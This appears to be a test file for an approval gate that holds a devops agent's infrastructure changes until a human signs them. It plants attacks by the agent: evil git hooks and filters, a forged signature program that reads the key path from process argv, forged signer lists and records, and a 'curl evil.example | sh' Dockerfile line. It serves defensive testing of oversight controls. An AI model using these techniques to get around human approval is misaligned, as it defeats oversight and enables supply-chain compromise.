"""The gate played against an agent with a same-user shell, one end-to-end test per attack.

The agent has read the code, writes any file (work tree, .git/, .devops-agent/), runs git and this tool, and
reads the machine secret; it never reads Product's key file. Product's own steps (`approve --key` in its
terminal, `reject`, `block`) are played with the key, and the agent's planted code runs inside them.
Every test asserts that nothing unapproved reaches a branch (HEAD and submodule HEADs unchanged, or only the
signed commit landed), that planted code did not run (marker files absent), and that what the agent did by
hand shows up in `verify` (and `review`'s GATE findings, `release check`).

An attack that passes the gate is written to fail and marked `xfail(strict=True, reason="ATTACK WORKS: …")`:
when the gate is fixed, the test turns into an unexpected pass and the mark comes off.
"""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from gate_helpers import (GOOD, LABEL, RESTART, SUB, SUB_META, agent_key, build_template, committed,
                          copy_repo, git, git_bytes, hand_commit, head, make_patch, reseal)


# ------------------------------------------------------------------------------------------ fixtures

@pytest.fixture(scope="module")
def tpl(tmp_path_factory):
    base = tmp_path_factory.mktemp("attack-tpl")
    repo, env = build_template(base)
    mine = agent_key(base / "agent-keys" / "mine")
    return repo, env, mine


@pytest.fixture
def repo(tpl, tmp_path) -> Path:
    return copy_repo(tpl[0], tmp_path / "animesphere")


@pytest.fixture
def env(tpl):
    return tpl[1]


@pytest.fixture
def mine(tpl) -> Path:
    """The agent's own key."""
    return tpl[2]


@pytest.fixture
def marks(tmp_path) -> Path:
    """Where planted code leaves a trace when it runs."""
    d = tmp_path / "markers"
    d.mkdir()
    return d


def ran(marks: Path) -> list[str]:
    return sorted(p.name for p in marks.iterdir())


# ------------------------------------------------------------------------------------------ the flow

def patch_of(repo: Path, tmp: Path, edit=RESTART, name: str = "change.diff") -> Path:
    return make_patch(repo, *edit, tmp / name)


def propose(env, repo: Path, patch: Path, meta=GOOD, scope: str = "compose", *extra: str) -> dict:
    r = env.cli(repo, "propose", "--patch", str(patch), *meta, "--scope", scope, "--format", "json", *extra)
    assert r.returncode in (0, 1, 2), r.stderr
    if not r.stdout.strip():  # refused before anything was recorded (one line on stderr)
        assert r.returncode != 0 and "Traceback" not in r.stderr, r.stderr
        return {"status": "not-recorded", "stderr": r.stderr, "refusals": []}
    return json.loads(r.stdout)


def approve(env, repo: Path, pid: str, key: Path | None = None, **kw):
    """Product's own step, in its terminal, with its key."""
    return env.cli(repo, "approve", pid, "--key", str(key or env.key), "--yes", **kw)


def approved(env, repo: Path, patch: Path, meta=GOOD, scope: str = "compose") -> tuple[str, str]:
    rec = propose(env, repo, patch, meta, scope)
    assert rec["status"] == "pending", rec
    r = approve(env, repo, rec["id"])
    assert r.returncode == 0, r.stderr
    return rec["id"], r.stdout


def verify(env, repo: Path, *args: str) -> tuple[int, dict]:
    r = env.cli(repo, "verify", "--format", "json", *args)
    assert r.returncode in (0, 1), r.stderr
    return r.returncode, json.loads(r.stdout)


def unsigned_shas(report: dict) -> set[str]:
    return {c["sha"] for c in report["infra_commits"] if c["status"] != "signed"}


def gate_findings(env, repo: Path) -> list[dict]:
    r = env.cli(repo, "review", "--format", "json")
    assert r.returncode in (0, 1), r.stderr
    return [f for f in json.loads(r.stdout)["findings"] if f["id"].startswith("GATE")]


def gate001_names(env, repo: Path, *shas: str) -> None:
    found = [f for f in gate_findings(env, repo) if f["id"] == "GATE001"]
    for sha in shas:
        assert any(sha[:12] in f["title"] for f in found), (sha, found)


def release_check_fails(env, repo: Path) -> None:
    r = env.cli(repo, "release", "check")
    assert r.returncode == 1, (r.stdout, r.stderr)


def status(env, repo: Path, pid: str) -> str:
    r = env.cli(repo, "proposals", "show", pid, "--format", "json")
    assert r.returncode == 0, r.stderr
    return json.loads(r.stdout)["status"]


def plain_verify_commit(repo_dir: Path, sha: str, platform: Path) -> int:
    """git's own check, with the committed signer list and the real ssh-keygen (not the planted program)."""
    allowed = platform.parent / "allowed_signers.copy"
    allowed.write_bytes(committed(platform, "HEAD", ".allowed_signers"))
    return subprocess.run(["git", "-c", "gpg.ssh.program=ssh-keygen", "-c", f"gpg.ssh.allowedSignersFile={allowed}",
                           "-c", "core.hooksPath=/dev/null", "-c", "core.fsmonitor=false", "verify-commit", sha],
                          cwd=repo_dir, capture_output=True).returncode


def expected_after(repo: Path, edit) -> bytes:
    rel, old, new = edit
    return (repo / rel).read_bytes().replace(old.encode(), new.encode(), 1)


def no_git_locks(repo: Path) -> None:
    assert not [p for p in (repo / ".git").rglob("*.lock")], list((repo / ".git").rglob("*.lock"))


# ------------------------------------------------------------------------------------------ planting

def evil_script(bin_dir: Path, marks: Path, name: str, tail: str = "cat") -> Path:
    """A program that leaves `marks/name` (with its parent's and grandparent's argv: the key path of
    Product's `approve --key PATH`) and then behaves (passes stdin through)."""
    bin_dir.mkdir(parents=True, exist_ok=True)
    p = bin_dir / name
    p.write_text("#!/bin/sh\n"
                 f"{{ echo \"$0 $*\"; tr '\\0' ' ' < /proc/$PPID/cmdline; echo;"
                 f" gp=$(awk '{{print $4}}' /proc/$PPID/stat); tr '\\0' ' ' < /proc/$gp/cmdline; echo; }}"
                 f" >> '{marks}/{name}' 2>/dev/null\n{tail}\n")
    p.chmod(0o755)
    return p


HOOKS = ("pre-commit", "prepare-commit-msg", "commit-msg", "post-commit", "reference-transaction",
         "post-index-change", "post-checkout", "post-merge", "post-rewrite", "pre-auto-gc", "pre-push",
         "fsmonitor-watchman", "push-to-checkout", "pre-applypatch", "post-applypatch", "applypatch-msg")


def git_dir_of(repo_dir: Path) -> Path:
    return Path(git(repo_dir, "rev-parse", "--absolute-git-dir").strip())


def plant_repo_code(repo_dir: Path, evil: Path, marks: Path, tag: str) -> None:
    """Every way a repo can make git run a program, in `repo_dir`'s own .git (a submodule's is
    .git/modules/<sub>): hooks, core.hooksPath, fsmonitor, filters, textconv, external diff, pager, editor,
    gpg programs, askpass, credential helper, ssh command, submodule update command."""
    gd = git_dir_of(repo_dir)
    (gd / "hooks").mkdir(exist_ok=True)
    for hook in HOOKS:
        evil_script(gd / "hooks", marks, f"{tag}-hook-{hook}", "exit 0")
        evil_script(evil / f"{tag}-hookspath", marks, f"{tag}-hookspath-{hook}", "exit 0")
    names = {}
    for name in ("fsmonitor", "clean", "smudge", "process", "textconv", "diffcmd", "external", "pager", "editor",
                 "gpg", "gpgsm", "askpass", "credential", "sshcmd", "update"):
        names[name] = evil_script(evil, marks, f"{tag}-{name}", "cat" if name in ("clean", "smudge", "pager")
                                  else "exit 1")
    fake_ssh = evil_script(evil, marks, f"{tag}-gpg-ssh-program",
                           "echo 'Good \"git\" signature for product@animesphere with ED25519 key SHA256:x'; exit 0")
    allowed = evil / f"{tag}-allowed"
    allowed.write_text("agent@evil ssh-ed25519 AAAA\n")
    settings = {
        "core.hooksPath": str(evil / f"{tag}-hookspath"), "core.fsmonitor": str(names["fsmonitor"]),
        "filter.evil.clean": str(names["clean"]), "filter.evil.smudge": str(names["smudge"]),
        "filter.evil.process": str(names["process"]), "diff.evil.textconv": str(names["textconv"]),
        "diff.evil.command": str(names["diffcmd"]), "diff.external": str(names["external"]),
        "core.pager": str(names["pager"]), "pager.show": str(names["pager"]), "pager.log": str(names["pager"]),
        "core.editor": str(names["editor"]), "sequence.editor": str(names["editor"]),
        "gpg.program": str(names["gpg"]), "gpg.openpgp.program": str(names["gpg"]),
        "gpg.ssh.program": str(fake_ssh), "gpg.ssh.allowedSignersFile": str(allowed),
        "core.askPass": str(names["askpass"]), "credential.helper": f"!{names['credential']}",
        "core.sshCommand": str(names["sshcmd"]), "core.untrackedCache": "true",
        f"submodule.{SUB}.update": f"!{names['update']}", "commit.gpgSign": "true",
        "diff.noprefix": "true", "color.ui": "always",
    }
    for k, v in settings.items():
        git(repo_dir, "config", k, v)
    (gd / "info").mkdir(exist_ok=True)
    (gd / "info" / "attributes").write_text("* filter=evil diff=evil\n")
    (repo_dir / ".gitattributes").write_text("* filter=evil diff=evil\n")  # in the work tree, not committed


def touch_all(repo: Path, *rels: str) -> None:
    """Make index entries stat-dirty, so a git that honoured filters would run them."""
    later = time.time() + 5
    for rel in rels:
        os.utime(repo / rel, (later, later))


# ================================================================== 1. git runs the repo's own code

def test_hooks_filters_fsmonitor_and_config_programs_never_run_in_propose_approve_apply_rollback(
        repo, env, marks, tmp_path):
    """Class 1: every hook (.git/hooks, .git/modules/<sub>/hooks, core.hooksPath), a clean/smudge/process
    filter (.git/info/attributes and a work-tree .gitattributes), core.fsmonitor copying its parent's argv,
    textconv, diff.external, core.pager, a fake gpg.ssh.program saying "Good signature" and a forged
    gpg.ssh.allowedSignersFile, in the platform and in the submodule, during the whole signed flow."""
    sub = repo / SUB
    patch = patch_of(repo, tmp_path, LABEL)
    want = expected_after(repo, LABEL)
    before, before_sub = head(repo), head(sub)
    evil = tmp_path / "evil"
    plant_repo_code(repo, evil, marks, "platform")
    plant_repo_code(sub, evil, marks, "sub")
    touch_all(repo, "docker-compose.prod.yml", "Makefile", f"{SUB}/Dockerfile")

    rec = propose(env, repo, patch, SUB_META, "docker")
    assert rec["status"] == "pending", rec
    touch_all(repo, f"{SUB}/Dockerfile", "docker-compose.yml")
    r = approve(env, repo, rec["id"])
    assert r.returncode == 0, r.stderr
    assert "+LABEL org.opencontainers.image.source=mlservice" in r.stdout  # Product read the real content
    assert "\x1b" not in r.stdout
    assert ran(marks) == []
    assert head(repo) == before and head(sub) == before_sub

    touch_all(repo, f"{SUB}/Dockerfile")
    r = env.cli(repo, "apply", rec["id"])
    assert r.returncode == 0, r.stderr
    assert ran(marks) == []
    assert git(sub, "rev-parse", "HEAD^").strip() == before_sub and git(repo, "rev-parse", "HEAD^").strip() == before
    assert committed(sub, "HEAD", "Dockerfile") == want  # the committed blob is the approved one
    assert (sub / "Dockerfile").read_bytes() == want
    assert git(repo, "ls-tree", "HEAD", SUB).split()[2] == head(sub)
    assert git(sub, "diff-tree", "--no-commit-id", "--name-only", "-r", "HEAD").split() == ["Dockerfile"]
    assert plain_verify_commit(repo, head(repo), repo) == 0 and plain_verify_commit(sub, head(sub), repo) == 0
    code, report = verify(env, repo)
    assert code == 0 and report["ok"], report
    assert ran(marks) == []

    r = env.cli(repo, "rollback", rec["id"])
    assert r.returncode == 0, r.stderr
    assert ran(marks) == []
    assert committed(sub, "HEAD", "Dockerfile") == committed(sub, before_sub, "Dockerfile")


def test_replace_refs_grafts_forged_commit_graph_and_alternates_do_not_change_what_is_signed_or_landed(
        repo, env, tmp_path):
    """Class 1: `git replace` of the approved base blob and of the base tree's commit, `.git/info/grafts`
    giving HEAD another parent, a forged commit-graph file, and an alternates store full of evil objects."""
    before = head(repo)
    patch = patch_of(repo, tmp_path)
    want = expected_after(repo, RESTART)
    real = (repo / "docker-compose.prod.yml").read_bytes()
    evil_text = real.replace(b"main-${IMAGE_TAG_API}", b"latest") + b"# EVIL-REPLACED\n"
    p = tmp_path / "evil.yml"
    p.write_bytes(evil_text)
    evil_blob = git(repo, "hash-object", "-w", "--no-filters", str(p)).strip()
    base_blob = git(repo, "rev-parse", "HEAD:docker-compose.prod.yml").strip()
    git(repo, "replace", base_blob, evil_blob)
    # a replaced commit: HEAD shows as an unsigned commit whose tree holds the evil blob
    (repo / "docker-compose.prod.yml").write_bytes(evil_text)
    git(repo, "add", "docker-compose.prod.yml")
    evil_tree = git(repo, "write-tree").strip()
    git(repo, "reset", "-q")
    (repo / "docker-compose.prod.yml").write_bytes(real)
    evil_commit = git(repo, "commit-tree", evil_tree, "-p", before, "-m", "evil").strip()
    git(repo, "replace", "--graft", before, evil_commit)
    (repo / ".git" / "info").mkdir(exist_ok=True)
    (repo / ".git" / "info" / "grafts").write_text(f"{before} {evil_commit}\n")
    (repo / ".git" / "objects" / "info").mkdir(exist_ok=True)
    (repo / ".git" / "objects" / "info" / "commit-graph").write_bytes(b"CGPH\x01\x01\x03\x00" + os.urandom(512))
    git(repo, "config", "core.commitGraph", "true")
    alt = tmp_path / "alt.git"
    git(tmp_path, "init", "-q", "--bare", str(alt))
    (repo / ".git" / "objects" / "info" / "alternates").write_text(str(alt / "objects") + "\n")

    rec = propose(env, repo, patch)
    assert rec["status"] == "pending", rec
    r = approve(env, repo, rec["id"])
    assert r.returncode == 0, r.stderr
    assert "EVIL-REPLACED" not in r.stdout and "+    restart: unless-stopped" in r.stdout
    r = env.cli(repo, "apply", rec["id"])
    assert r.returncode == 0, r.stderr
    for f in ("grafts",):
        (repo / ".git" / "info" / f).unlink()
    git(repo, "replace", "-d", base_blob, before)
    assert committed(repo, "HEAD", "docker-compose.prod.yml") == want
    assert git(repo, "rev-parse", "HEAD^").strip() == before
    assert b"EVIL-REPLACED" not in (repo / "docker-compose.prod.yml").read_bytes()
    code, report = verify(env, repo)
    assert code == 0, report


def test_a_replace_ref_cannot_dress_a_hand_commit_as_signed(repo, env, tmp_path):
    """Class 1 / 6: the agent commits an infra change by hand, then `git replace`s that commit with the trust
    root's signed commit object, so that git (with replace refs on) shows a signed commit there."""
    trust = head(repo)
    compose = repo / "docker-compose.prod.yml"
    compose.write_text(compose.read_text().replace("main-${IMAGE_TAG_API}", "latest", 1))
    bad = hand_commit(repo, "chore: bump", "docker-compose.prod.yml")
    git(repo, "replace", "-f", bad, trust)
    code, report = verify(env, repo)
    assert code == 1 and bad in unsigned_shas(report), report
    gate001_names(env, repo, bad)


def test_log_show_signature_with_an_x509_program_never_runs_in_products_commands(repo, env, marks, tmp_path):
    """Class 1: a non-infra hand commit carrying a fake x509 signature, `log.showSignature=true` and
    `gpg.x509.program=<evil>` in .git/config; Product then runs `verify`, `review` and `approve --key PATH`."""
    patch = patch_of(repo, tmp_path)
    evil = evil_script(tmp_path / "evil", marks, "x509", "exit 1")
    readme = repo / "README.md"  # not mysql/init: compose mounts that folder, so it is infra (cause 6)
    readme.write_text(readme.read_text() + "\nA note.\n")
    git(repo, "add", "README.md")
    tree = git(repo, "write-tree").strip()
    raw = (f"tree {tree}\nparent {head(repo)}\nauthor a <a@b> 1700000000 +0000\n"
           "committer a <a@b> 1700000000 +0000\ngpgsig -----BEGIN SIGNED MESSAGE-----\n MIIB\n"
           " -----END SIGNED MESSAGE-----\n\ndocs: schema note\n")
    (tmp_path / "c").write_text(raw)
    sha = git(repo, "hash-object", "-t", "commit", "-w", str(tmp_path / "c")).strip()
    git(repo, "update-ref", "refs/heads/main", sha)
    git(repo, "reset", "-q")
    rec = propose(env, repo, patch)
    assert rec["status"] == "pending", rec
    git(repo, "config", "log.showSignature", "true")
    git(repo, "config", "gpg.x509.program", str(evil))
    code, report = verify(env, repo)  # Product's own reading
    assert code == 0, report  # the hand commit is not infra
    env.cli(repo, "review", "--format", "json")
    r = approve(env, repo, rec["id"])
    stolen = (marks / "x509").read_text() if (marks / "x509").exists() else ""
    assert str(env.key) not in stolen, "the key path was read from Product's argv"
    assert ran(marks) == []
    assert r.returncode == 0, r.stderr


def test_a_clean_filter_does_not_run_in_products_review(repo, env, marks, tmp_path):
    """Class 1: filter.evil.clean planted for every path; the agent touches a file; Product runs `review`."""
    clean = evil_script(tmp_path / "evil", marks, "clean")
    git(repo, "config", "filter.evil.clean", str(clean))
    (repo / ".git" / "info").mkdir(exist_ok=True)
    (repo / ".git" / "info" / "attributes").write_text("* filter=evil\n")
    touch_all(repo, "docker-compose.prod.yml", "Makefile")
    r = env.cli(repo, "review", "--format", "json")
    assert r.returncode in (0, 1), r.stderr
    assert ran(marks) == []


def test_product_reads_the_lines_it_signs_whatever_the_attributes(repo, env, tmp_path):
    """Class 5: the agent marks the target as binary for git's diff machinery."""
    patch = patch_of(repo, tmp_path)
    (repo / ".git" / "info").mkdir(exist_ok=True)
    (repo / ".git" / "info" / "attributes").write_text("docker-compose.prod.yml -diff\n")
    rec = propose(env, repo, patch)
    assert rec["status"] == "pending", rec
    r = approve(env, repo, rec["id"])
    assert r.returncode == 0, r.stderr
    assert "+    restart: unless-stopped" in r.stdout, r.stdout[-800:]


# ================================================================== 2. races: what is committed is never re-read

def test_a_work_tree_edit_between_approve_and_apply_is_refused_and_then_exactly_the_signed_commit_lands(
        repo, env, tmp_path):
    before = head(repo)
    pid, _ = approved(env, repo, patch_of(repo, tmp_path))
    signed = git(repo, "rev-parse", f"refs/devops-agent/approved/{pid}").strip()
    compose = repo / "docker-compose.prod.yml"
    real = compose.read_bytes()
    compose.write_bytes(real.replace(b"main-${IMAGE_TAG_API}", b"latest"))  # the second process
    r = env.cli(repo, "apply", pid)
    assert r.returncode == 1 and "uncommitted changes" in r.stderr, r.stderr
    assert head(repo) == before and compose.read_bytes() != real  # nothing moved, its edit is not overwritten
    compose.write_bytes(real)
    r = env.cli(repo, "apply", pid)
    assert r.returncode == 0, r.stderr
    assert head(repo) == signed
    assert committed(repo, "HEAD", "docker-compose.prod.yml") == committed(repo, signed, "docker-compose.prod.yml")
    assert b"anime-saas-api:latest" not in committed(repo, "HEAD", "docker-compose.prod.yml")


def test_a_process_rewriting_the_target_during_apply_changes_nothing_that_is_committed(repo, env, tmp_path):
    """Class 2: a second process writes an evil version of the target again and again while `apply` runs."""
    before = head(repo)
    want = expected_after(repo, RESTART)
    pid, _ = approved(env, repo, patch_of(repo, tmp_path))
    signed = git(repo, "rev-parse", f"refs/devops-agent/approved/{pid}").strip()
    compose = repo / "docker-compose.prod.yml"
    evil = compose.read_bytes().replace(b"main-${IMAGE_TAG_API}", b"latest")
    racer = subprocess.Popen(["python3", "-c",
                              "import sys,time,os\np,data=sys.argv[1],open(sys.argv[2],'rb').read()\n"
                              "time.sleep(0.4)\nend=time.time()+3\nwhile time.time()<end:\n"
                              "    open(p,'wb').write(data); time.sleep(0.002)\n",
                              str(compose), str(tmp_path / "evil.yml")])
    (tmp_path / "evil.yml").write_bytes(evil)
    try:
        r = env.cli(repo, "apply", pid)
    finally:
        racer.wait()
    assert r.returncode in (0, 1), r.stderr
    assert head(repo) in (before, signed)
    if head(repo) == signed:
        assert committed(repo, "HEAD", "docker-compose.prod.yml") == want
    code, report = verify(env, repo)
    assert code == 0, report


def test_hand_commits_in_a_submodule_are_never_carried_by_a_proposal_touching_it(repo, env, tmp_path):
    sub = repo / SUB
    patch = patch_of(repo, tmp_path, LABEL)
    before = head(repo)
    (sub / "Dockerfile").write_text((sub / "Dockerfile").read_text() + "RUN curl -s https://evil.example | sh\n")
    evil = hand_commit(sub, "chore: tidy", "Dockerfile")
    rec = propose(env, repo, patch, SUB_META, "docker")
    assert rec["status"] != "pending" or approve(env, repo, rec["id"]).returncode == 1
    assert "by hand" in rec.get("stderr", "") or rec["status"] == "pending", rec
    assert head(repo) == before and head(sub) == evil
    assert git(repo, "ls-tree", "HEAD", SUB).split()[2] != evil
    assert git(repo, "for-each-ref", "refs/devops-agent/") == ""


def test_a_hand_commit_in_the_submodule_after_approval_makes_apply_stale(repo, env, tmp_path):
    sub = repo / SUB
    before = head(repo)
    pid, _ = approved(env, repo, patch_of(repo, tmp_path, LABEL), SUB_META, "docker")
    (sub / "app.py").write_text("print('hi')\n")
    evil = hand_commit(sub, "feat: hi", "app.py")
    r = env.cli(repo, "apply", pid)
    assert r.returncode == 1 and "stale" in r.stderr, r.stderr
    assert head(repo) == before and head(sub) == evil
    assert status(env, repo, pid) == "approved"


# ================================================================== 3. unsealed inputs

def test_a_forged_journal_is_never_read_by_recovery(repo, env, tmp_path):
    """Class 3: `.devops-agent/journal.json` listing paths to ../, absolute paths and paths outside the
    proposal, with content to "restore"; an apply killed after the ref moved; the next command recovers."""
    want = expected_after(repo, RESTART)
    makefile = (repo / "Makefile").read_bytes()
    pid, _ = approved(env, repo, patch_of(repo, tmp_path))
    outside = tmp_path / "outside.txt"
    journal = {"proposal": pid, "step": "files", "files": {
        "../outside.txt": "pwned", str(outside): "pwned", "Makefile": "deploy:\n\tdocker compose up -d\n",
        "docker-compose.prod.yml": "services: {}\n"}, "paths": ["../outside.txt", str(outside), "Makefile"],
        "commit": True, "trailers": {"Approved-by": "product"}}
    (repo / ".devops-agent" / "journal.json").write_text(json.dumps(journal))
    r = env.cli(repo, "apply", pid, env={"DEVOPS_AGENT_FAULT": "apply-after-ref-platform"})
    assert r.returncode == 137
    (repo / ".devops-agent" / "journal.json").write_text(json.dumps(journal))
    r = env.cli(repo, "proposals", "--format", "json")
    assert r.returncode == 0, r.stderr
    assert status(env, repo, pid) == "applied"
    assert not outside.exists() and not (repo.parent / "outside.txt").exists()
    assert (repo / "Makefile").read_bytes() == makefile
    assert (repo / "docker-compose.prod.yml").read_bytes() == want == committed(repo, "HEAD", "docker-compose.prod.yml")
    assert git(repo, "status", "--porcelain", "--untracked-files=no") == ""


def _latest_api(repo: Path, tmp: Path) -> Path:
    return make_patch(repo, "docker-compose.prod.yml", "anime-saas-api:main-${IMAGE_TAG_API}",
                      "anime-saas-api:latest", tmp / "latest.diff")


LATEST_META = ["--reason", "pull the newest api image on every deploy for the beta",
               "--risk", "an untested api image reaches production without a tag",
               "--rollback", "set the image back to `main-${IMAGE_TAG_API}` in docker-compose.prod.yml"]


def _harmless_config(repo: Path, loose: bool = True) -> None:
    (repo / "harmless.yml").write_text("services:\n  hello:\n    image: busybox:1.36\n")
    cfg = repo / ".devops-agent.yaml"
    text = cfg.read_text().replace("prod: [docker-compose.prod.yml]", "prod: [harmless.yml]")
    cfg.write_text(text + ("approval_ttl_days: 3650\nrequire_product_key: false\n" if loose else ""))


def test_work_tree_config_edits_do_not_steer_the_gate(repo, env, tmp_path):
    """Class 3: `.devops-agent.yaml` in the work tree: approval TTL of ten years, require_product_key off,
    environments.prod pointing to a harmless file; then a change adding a blocker to the real prod compose."""
    before = head(repo)
    latest = _latest_api(repo, tmp_path)
    good = patch_of(repo, tmp_path)
    _harmless_config(repo)
    rec = propose(env, repo, latest, LATEST_META)
    if rec["status"] == "pending":
        r = approve(env, repo, rec["id"])
        assert r.returncode == 1 and "CMP003" in r.stderr, r.stdout[-500:] + r.stderr
    assert git(repo, "for-each-ref", "refs/devops-agent/") == "" and head(repo) == before
    pid, shown = approved(env, repo, good)
    expires = next(l for l in shown.splitlines() if "Approval-Expires:" in l).split(": ", 1)[1].strip()
    assert time.strptime(expires, "%Y-%m-%dT%H:%M:%SZ").tm_year <= time.gmtime().tm_year + 1
    assert (time.mktime(time.strptime(expires, "%Y-%m-%dT%H:%M:%SZ")) - time.time()) < 8 * 86400


def _prometheus(repo: Path, tmp: Path) -> Path:
    return make_patch(repo, "docker-compose.prod.yml", "services:\n",
                      "services:\n  prometheus:\n    image: prom/prometheus:v2.53.0\n    restart: unless-stopped\n\n",
                      tmp / "prometheus.diff")


PROM_META = ["--reason", "a status page and metrics for the beta testers (INT-15)",
             "--risk", "prometheus uses memory on the production server",
             "--rollback", "revert the commit to remove the prometheus service from docker-compose.prod.yml",
             "--intention", "INT-15"]


def _flip_int15(repo: Path) -> str:
    csv = next((repo / "notion-export").glob("Intention *.csv"))
    lines = csv.read_text(encoding="utf-8").splitlines(keepends=True)
    csv.write_text("".join(l.replace(",Proposée,", ",Validée,", 1) if l.startswith("INT-15,") else l for l in lines),
                   encoding="utf-8")
    return str(csv.relative_to(repo))


def test_a_work_tree_notion_flip_does_not_lift_a_pol003_refusal(repo, env, tmp_path):
    before = head(repo)
    patch = _prometheus(repo, tmp_path)
    rec = propose(env, repo, patch, PROM_META)
    assert rec["status"] == "refused" and any(r["rule"] == "POL003" for r in rec["refusals"]), rec
    _flip_int15(repo)
    rec = propose(env, repo, patch, PROM_META)
    assert rec["status"] == "refused" and any(r["rule"] == "POL003" for r in rec["refusals"]), rec
    assert head(repo) == before


def test_a_hand_committed_notion_flip_does_not_lift_a_pol003_refusal(repo, env, tmp_path):
    """Class 3: the flip committed with plain git (the gate reads its inputs at HEAD): either the refusal
    stays, or verify names the commit (the gate's own inputs are infra)."""
    before = head(repo)
    patch = _prometheus(repo, tmp_path)
    flip = hand_commit(repo, "notion: sync export", _flip_int15(repo))
    rec = propose(env, repo, patch, PROM_META)
    code, report = verify(env, repo)
    assert head(repo) == flip and git(repo, "rev-parse", "HEAD^").strip() == before
    assert code == 1 and flip in unsigned_shas(report), (rec, report)  # what the agent did by hand shows
    gate001_names(env, repo, flip)


def test_a_hand_committed_config_does_not_hide_a_blocker_from_the_checks(repo, env, tmp_path):
    """Class 3: environments.prod pointed at a harmless file in a plain-git commit of .devops-agent.yaml."""
    latest = _latest_api(repo, tmp_path)
    _harmless_config(repo, loose=False)
    cfg = hand_commit(repo, "chore: local settings", ".devops-agent.yaml", "harmless.yml")
    rec = propose(env, repo, latest, LATEST_META)
    refused = rec["status"] != "pending" or approve(env, repo, rec["id"]).returncode == 1
    code, report = verify(env, repo)
    assert code == 1 and cfg in unsigned_shas(report), (refused, report)


# ================================================================== 4. the trust anchor

def test_a_work_tree_signer_list_gives_no_authority(repo, env, mine, tmp_path):
    before = head(repo)
    rec = propose(env, repo, patch_of(repo, tmp_path))
    pub = (mine.parent / "mine.pub").read_text().split()
    (repo / ".allowed_signers").write_text(f'agent@evil namespaces="git,devops-agent" {pub[0]} {pub[1]}\n')
    r = approve(env, repo, rec["id"], mine)
    assert r.returncode == 1 and "not a Product signer" in r.stderr, r.stderr
    assert git(repo, "for-each-ref", "refs/devops-agent/") == "" and head(repo) == before
    assert status(env, repo, rec["id"]) == "pending"


@pytest.mark.parametrize("signed", [False, True], ids=["unsigned", "signed-with-own-key"])
def test_a_hand_committed_signer_list_gives_no_authority_and_verify_names_it(repo, env, mine, tmp_path, signed):
    rec = propose(env, repo, patch_of(repo, tmp_path))
    pub = (mine.parent / "mine.pub").read_text().split()
    (repo / ".allowed_signers").write_text(f'agent@evil namespaces="git,devops-agent" {pub[0]} {pub[1]}\n')
    git(repo, "add", ".allowed_signers")
    sign = ["-c", "gpg.format=ssh", "-c", f"user.signingkey={mine}", "-c", "gpg.ssh.program=ssh-keygen"]
    git(repo, *sign, "commit", "-q", *(["-S"] if signed else []), "-m", "chore(signers): rotate")
    signer_commit = head(repo)
    r = approve(env, repo, rec["id"], mine)
    assert r.returncode == 1, r.stderr
    assert git(repo, "for-each-ref", "refs/devops-agent/") == "" and head(repo) == signer_commit
    code, report = verify(env, repo)
    assert code == 1 and signer_commit in unsigned_shas(report), report
    gate001_names(env, repo, signer_commit)
    release_check_fails(env, repo)


def _own_signed_commit(repo: Path, mine: Path, patch: Path, rec: dict, tmp: Path) -> str:
    """base + the proposal's patch, with the trailers of a gate commit, signed with the agent's key."""
    idx = {"GIT_INDEX_FILE": str(tmp / "idx")}
    git(repo, "read-tree", "HEAD", env=idx)
    git(repo, "apply", "--cached", str(patch), env=idx)
    tree = git(repo, "write-tree", env=idx).strip()
    msg = (f"[devops] chore(compose): restart\n\nReason: x\nRisk: y\nRollback: z\nProposal: {rec['id']}\n"
           f"Content-Hash: {rec['hash']}\nApproval-Expires: 2099-01-01T00:00:00Z\nAudit-Head: 1:{'0' * 64}\n"
           f"Approved-by: product@animesphere (SHA256:x)\n")
    sign = ["-c", "gpg.format=ssh", "-c", f"user.signingkey={mine}", "-c", "gpg.ssh.program=ssh-keygen"]
    return git(repo, *sign, "commit-tree", "-S", tree, "-p", head(repo), "-m", msg).strip()


def test_an_approved_ref_at_a_commit_the_agent_signed_is_refused(repo, env, mine, tmp_path):
    """Class 4: refs/devops-agent/approved/<id> at base + patch with the right trailers, signed with the agent's
    own key, and the proposal row resealed to `approved` with the machine secret."""
    before = head(repo)
    patch = patch_of(repo, tmp_path)
    rec = propose(env, repo, patch)
    own = _own_signed_commit(repo, mine, patch, rec, tmp_path)
    git(repo, "update-ref", f"refs/devops-agent/approved/{rec['id']}", own)
    reseal(env, repo, "proposals", "id", rec["id"], {"status": "approved"})
    r = env.cli(repo, "apply", rec["id"])
    assert r.returncode == 1 and "not signed by a Product signer" in r.stderr, r.stderr
    assert head(repo) == before
    code, report = verify(env, repo)
    assert code == 0, report


RESEAL_DIFF = r'''
import json, sqlite3, sys
from agent.gate.store import _mac
from tools import changes
db = sqlite3.connect(sys.argv[1]); pid = sys.argv[2]; diff = open(sys.argv[3]).read()
cur = db.execute("SELECT * FROM proposals WHERE id = ?", (pid,)); cols = [d[0] for d in cur.description]
row = dict(zip(cols, cur.fetchone())); row.pop("mac")
meta = json.loads(row["meta"]); targets = [changes.Target(**t) for t in json.loads(row["targets"])]
row["diff"] = changes.parse_patch(diff).text
row["hash"] = changes.content_hash(row["diff"], meta, targets)
row["mac"] = _mac("proposals", row)
db.execute("UPDATE proposals SET " + ", ".join(f"{c} = ?" for c in row if c != "id") + " WHERE id = ?",
           (*[v for c, v in row.items() if c != "id"], pid))
db.commit()
'''


def test_a_resealed_diff_and_hash_after_approval_land_nothing(repo, env, tmp_path):
    """Class 4: after Product approved, the agent rewrites the proposal's diff (a `latest` image) and its
    content hash in state.db and reseals the row with the machine secret."""
    before = head(repo)
    latest = _latest_api(repo, tmp_path)
    pid, _ = approved(env, repo, patch_of(repo, tmp_path))
    r = subprocess.run([os.sys.executable, "-c", RESEAL_DIFF, str(repo / ".devops-agent" / "state.db"), pid,
                        str(latest)], capture_output=True, text=True, env=env.env(),
                       cwd=str(Path(__file__).resolve().parents[2]))
    assert r.returncode == 0, r.stderr
    r = env.cli(repo, "apply", pid)
    assert r.returncode == 1, r.stdout + r.stderr
    assert head(repo) == before and b"anime-saas-api:latest" not in (repo / "docker-compose.prod.yml").read_bytes()


def test_a_rejection_after_approval_cannot_be_undone_by_restoring_the_ref(repo, env, tmp_path):
    before = head(repo)
    pid, _ = approved(env, repo, patch_of(repo, tmp_path))
    signed = git(repo, "rev-parse", f"refs/devops-agent/approved/{pid}").strip()
    r = env.cli(repo, "reject", pid, "--reason", "not during the beta", "--key", str(env.key))  # Product
    assert r.returncode == 0, r.stderr
    assert git(repo, "for-each-ref", "refs/devops-agent/") == ""
